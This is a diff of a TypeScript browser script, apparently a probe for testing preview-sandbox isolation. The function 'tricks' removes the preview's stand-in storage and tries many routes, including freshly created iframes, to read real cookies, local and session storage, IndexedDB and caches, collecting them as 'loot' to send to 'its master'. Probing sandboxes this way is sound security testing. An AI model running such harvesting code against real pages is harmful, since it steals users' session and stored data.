@@ -2,19 +2,20 @@
 export interface Aims { sentinel: string; markets: string[]; panel: string; shops: string[] }
 
 /** What the script got hold of: by trick, the word for it. `got` is what an attacker could use. */
-export interface Loot { origin: string; tried: Record<string, string>; got: string[] }
+export interface Loot { origin: string; tried: Record<string, string>; got: string[]; isDone: boolean }
 
 /**
  * Runs on a page of a preview, sent there inside a package: tries everything that a script can, keeps what it got, and sends it to its master in
  * every way there is. Stands on its own, for its source is what travels.
  */
 export async function tricks(aims: Aims): Promise<void> {
-  const loot: Loot = { origin: self.origin, tried: {}, got: [] }
+  const loot: Loot = { origin: self.origin, tried: {}, got: [], isDone: false }
   const scope = window as unknown as Record<string, unknown>
+  scope.arastaLoot = loot
   // Harmless stand-ins that a preview puts there are taken away first.
   for (const name of ['localStorage', 'sessionStorage']) delete scope[name]
   delete (document as unknown as Record<string, unknown>).cookie
-  const within = <T>(work: Promise<T>) => Promise.race([work, new Promise<string>(resolve => { setTimeout(() => resolve('nothing came'), 1_500) })])
+  const within = <T>(work: Promise<T>) => Promise.race([work, new Promise<string>(resolve => { setTimeout(() => resolve('nothing came'), 800) })])
   async function attempt(name: string, work: () => unknown): Promise<void> {
     try {
       const found = await within(Promise.resolve(work()))
@@ -29,7 +30,13 @@ export async function tricks(aims: Aims): Promise<void> {
   await attempt('cookie', () => native(Document.prototype, 'cookie')?.call(document))
   await attempt('cookie of a new document', () => document.implementation.createHTMLDocument('').cookie)
   await attempt('cookie store', async () => JSON.stringify(await (scope.cookieStore as { getAll(): Promise<unknown[]> } | undefined)?.getAll()))
-  for (const name of ['localStorage', 'sessionStorage']) await attempt(name, () => JSON.stringify(native(Window.prototype, name)?.call(window) ?? scope[name] ?? ''))
+  for (const name of ['localStorage', 'sessionStorage']) await attempt(name, () => Object.keys((native(Window.prototype, name)?.call(window) ?? scope[name] ?? {}) as object).join())
+  for (const name of ['localStorage', 'cookie']) await attempt(`${name} of a fresh frame`, () => {
+    const fresh = document.createElement('iframe')
+    document.body.append(fresh)
+    const inside = fresh.contentWindow as unknown as Window
+    return name === 'cookie' ? inside.document.cookie : Object.keys(inside.localStorage).join()
+  })
   await attempt('indexed db', async () => JSON.stringify(await indexedDB.databases()))
   await attempt('caches', async () => (await caches.keys()).join())
   await attempt('storage access', () => document.requestStorageAccess())
@@ -116,7 +123,7 @@ export async function tricks(aims: Aims): Promise<void> {
     return new URL('x', document.baseURI).origin === aims.sentinel ? 'every address leads elsewhere' : ''
   })
   await new Promise(resolve => { setTimeout(resolve, 400) })
-  scope.arastaLoot = loot
+  loot.isDone = true
 }
 
 /** Last, for it takes the page away: the page itself goes to its master, with all it has. */
